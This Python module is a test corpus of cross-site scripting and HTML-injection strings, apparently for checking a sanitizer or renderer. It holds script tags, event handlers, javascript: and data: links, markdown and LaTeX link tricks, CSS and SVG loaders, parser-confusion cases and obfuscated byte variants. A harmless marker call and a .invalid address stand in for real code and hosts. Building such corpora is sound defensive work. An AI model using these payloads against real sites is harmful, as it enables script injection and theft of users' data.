"""Texts that try to bring a script, a handler or a dangerous link onto a page.

`HIT` stands for code that tells the page that it ran, and `ELSEWHERE` for an address off the page.
Both are names under .invalid, which no server can have.
"""

HIT = "__injected()"
ELSEWHERE = "https://elsewhere.invalid"

SCRIPTS = """
<script>HIT</script>
<SCRIPT>HIT</SCRIPT>
<ScRiPt >HIT</sCrIpT >
<script/x>HIT</script>
<script src=ELSEWHERE/x.js></script>
<script src=//elsewhere.invalid/x.js></script>
<script type=module>HIT</script>
<<script>HIT//<</script>
<scr<script>ipt>HIT</scr</script>ipt>
<script>HIT
</script><script>HIT</script>
<svg><script>HIT</script></svg>
<svg><script href=data:text/javascript,HIT></script></svg>
<svg><script xlink:href="data:text/javascript,HIT"/></svg>
<math><script>HIT</script></math>
<svg:script>HIT</svg:script>
<noscript><p title="</noscript><img src=x onerror=HIT>">
<template><script>HIT</script></template>
&lt;script&gt;HIT&lt;/script&gt;
&#60;script&#62;HIT&#60;/script&#62;
&#x3c;script&#x3e;HIT&#x3c;/script&#x3e;
\\u003cscript\\u003eHIT\\u003c/script\\u003e
%3Cscript%3EHIT%3C/script%3E
＜script＞HIT＜/script＞
<ſcript>HIT</ſcript>
"""

HANDLERS = """
<img src=x onerror=HIT>
<img src=x OnErRoR='HIT'>
<img/src=x/onerror=HIT>
<img src=x onerror="HIT"//
<img src=`x` onerror=HIT>
<IMG \"\"\"><img src=x onerror=HIT>\">
<b onclick=HIT onmouseover=HIT>x</b>
<b title="x"onclick=HIT>x</b>
<b title='" onclick=HIT x="'>x</b>
<body onload=HIT>
<svg onload=HIT>
<svg/onload=HIT>
<svg><g onload=HIT></g></svg>
<details open ontoggle=HIT>x</details>
<input autofocus onfocus=HIT>
<select autofocus onfocus=HIT>
<textarea autofocus onfocus=HIT></textarea>
<video><source onerror=HIT></video>
<video src=x onerror=HIT></video>
<audio src=x onerror=HIT></audio>
<marquee onstart=HIT>x</marquee>
<p style="animation:x" onanimationstart=HIT>x</p>
<div contenteditable onfocus=HIT autofocus>x</div>
<svg><animate onbegin=HIT attributeName=x dur=1s></svg>
<svg><set onbegin=HIT attributeName=x></svg>
<math><mtext onclick=HIT>x</mtext></math>
" onmouseover="HIT
' onmouseover='HIT
" autofocus onfocus=HIT x="
"><img src=x onerror=HIT>
'><img src=x onerror=HIT>
--><img src=x onerror=HIT>
]]><img src=x onerror=HIT>
`><img src=x onerror=HIT>
</title><img src=x onerror=HIT>
</textarea><img src=x onerror=HIT>
</style><img src=x onerror=HIT>
</code></pre><img src=x onerror=HIT>
</summary></details><img src=x onerror=HIT>
</samp></div></main><img src=x onerror=HIT>
</svg><img src=x onerror=HIT>
</math><img src=x onerror=HIT>
"""

LINKS = """
<a href="javascript:HIT">x</a>
<a href="JaVaScRiPt:HIT">x</a>
<a href=" javascript:HIT">x</a>
<a href="java\tscript:HIT">x</a>
<a href="&#106;avascript:HIT">x</a>
<a href="&#x6A;avascript&colon;HIT">x</a>
<a href="java&Tab;script:HIT">x</a>
<a href="java&NewLine;script:HIT">x</a>
<a href="&#1;javascript:HIT">x</a>
<a href="vbscript:HIT">x</a>
<a href="data:text/html,<script>HIT</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5fX2luamVjdGVkKCk8L3NjcmlwdD4=">x</a>
<a href="#x" ping=ELSEWHERE>x</a>
<svg><a href="javascript:HIT"><text y=9>x</text></a></svg>
<svg><a xlink:href="javascript:HIT"><text y=9>x</text></a></svg>
<math><mi href="javascript:HIT">x</mi></math>
<math><maction actiontype=statusline href="javascript:HIT"><mi>x</mi></maction></math>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=HIT></svg>#x"/></svg>
<svg><use xlink:href="ELSEWHERE/x.svg#a"/></svg>
<svg><image href="ELSEWHERE/x.png"/></svg>
<svg><feImage href="ELSEWHERE/x.png"/></svg>
<svg><animate attributeName=href values="javascript:HIT"/></svg>
<svg><set attributeName=href to="javascript:HIT"/></svg>
[x](javascript:HIT)
[x](JAVASCRIPT:HIT)
[x](<javascript:HIT>)
[x](java&Tab;script:HIT)
[x](&#106;avascript:HIT)
[x](javascript&colon;HIT)
[x](vbscript:HIT)
[x](data:text/html,<script>HIT</script>)
![x](javascript:HIT)
![x](data:image/svg+xml,<svg/onload=HIT>)
![x" onerror="HIT](x.png)
[x](#x "t\\" onclick=\\"HIT")
[x](https://e.invalid/"onclick="HIT)
<javascript:HIT>
<JAVASCRIPT:HIT>
<data:text/html,x>
[x]: javascript:HIT
\\href{javascript:HIT}{x}
\\url{javascript:HIT}
\\html{<img src=x onerror=HIT>}
\\text{<img src=x onerror=HIT>}
\\unicode{<script>HIT</script>}
"""

STRUCTURE = """
<base href=ELSEWHERE/>
<meta http-equiv=refresh content="0;url=ELSEWHERE">
<meta http-equiv=Content-Security-Policy content="script-src *">
<link rel=stylesheet href=ELSEWHERE/x.css>
<link rel=preload as=script href=ELSEWHERE/x.js>
<link rel=import href=ELSEWHERE/x.html>
<iframe src="javascript:parent.HIT"></iframe>
<iframe srcdoc="<script>parent.HIT</script>"></iframe>
<iframe src=ELSEWHERE></iframe>
<frameset><frame src=ELSEWHERE></frameset>
<object data="javascript:HIT"></object>
<object data=ELSEWHERE/x.swf></object>
<embed src="javascript:HIT">
<applet code=x></applet>
<form action="javascript:HIT"><button>x</button></form>
<form id=f></form><button form=f formaction="javascript:HIT">x</button>
<img src=ELSEWHERE/x.png>
<img srcset="ELSEWHERE/x.png 2x">
<picture><source srcset=ELSEWHERE/x.png><img></picture>
<video poster=ELSEWHERE/x.png></video>
<table background=ELSEWHERE/x.png><tr><td>x</table>
<style>@import url(ELSEWHERE/x.css);</style>
<style>*{background:url(ELSEWHERE/x.png)}</style>
<p style="background:url(ELSEWHERE/x.png)">x</p>
<p style="width:expression(HIT)">x</p>
<p style="behavior:url(ELSEWHERE/x.htc)">x</p>
<p style="-moz-binding:url(ELSEWHERE/x.xml#x)">x</p>
<p style="b\\61 ckground:u\\72l(ELSEWHERE/x.png)">x</p>
<svg><rect fill="url(ELSEWHERE/x#a)" width=9 height=9 /></svg>
<svg><style>@import 'ELSEWHERE/x.css';</style></svg>
<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=HIT></body></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.HIT</script>"></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=HIT>">
<math><mtext><table><mglyph><style><img src=x onerror=HIT>
<math><annotation-xml encoding="text/html"><img src=x onerror=HIT></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>
<svg><desc><img src=x onerror=HIT></desc></svg>
<svg><title><img src=x onerror=HIT></title></svg>
<table><caption><svg><title><table><img src=x onerror=HIT>
<![CDATA[<script>HIT</script>]]>
<svg><![CDATA[</svg><script>HIT</script>]]>
<!--><script>HIT</script>-->
<!-- --!><script>HIT</script>
<!---><img src=x onerror=HIT>-->
<!-- <script>HIT</script>
<?xml-stylesheet href="ELSEWHERE/x.css"?>
<?php echo "<script>HIT</script>" ?>
<!DOCTYPE svg [<!ENTITY x "<script>HIT</script>">]><svg>&x;</svg>
<xmp><p title="</xmp><img src=x onerror=HIT>">
<plaintext><script>HIT</script>
<portal src=ELSEWHERE></portal>
<dialog open><form method=dialog></form></dialog>
"""

TEMPLATES = """
{{{x}}}
{{{body}}}
{{> page}}
{{#x}}<script>HIT</script>{{/x}}
{{=<% %>=}}<%{x}%>
{{&title}}
${HIT}
#{HIT}
<%= HIT %>
[[${HIT}]]
"""

# What cannot stand in a list of lines.
BYTES = [
    "<scr\0ipt>HIT</script>",
    "<img src=x on\0error=HIT>",
    "<script\n>HIT</script\n>",
    '<a href="java\nscript:HIT">x</a>',
    "<img\nsrc=x\nonerror\n=\nHIT>",
    "\ufeff<script>HIT</script>",
    "\u202e<script>HIT</script>\u202c",
    "\u200b<img src=x onerror=HIT>",
    "<img\u00a0src=x\u00a0onerror=HIT>",
    "<img\u000csrc=x\u000conerror=HIT>",
    "<b \u000conclick=HIT>x</b>",
    "[x](\u0001javascript:HIT)",
    "[x](java\u00adscript:HIT)",
    "]]>\u2028<script>HIT</script>",
]


def _lines(*lists):
    return [line for text in lists for line in text.strip("\n").split("\n")]


STRINGS = [
    text.replace("HIT", HIT).replace("ELSEWHERE", ELSEWHERE)
    for text in _lines(SCRIPTS, HANDLERS, LINKS, STRUCTURE, TEMPLATES) + BYTES
]
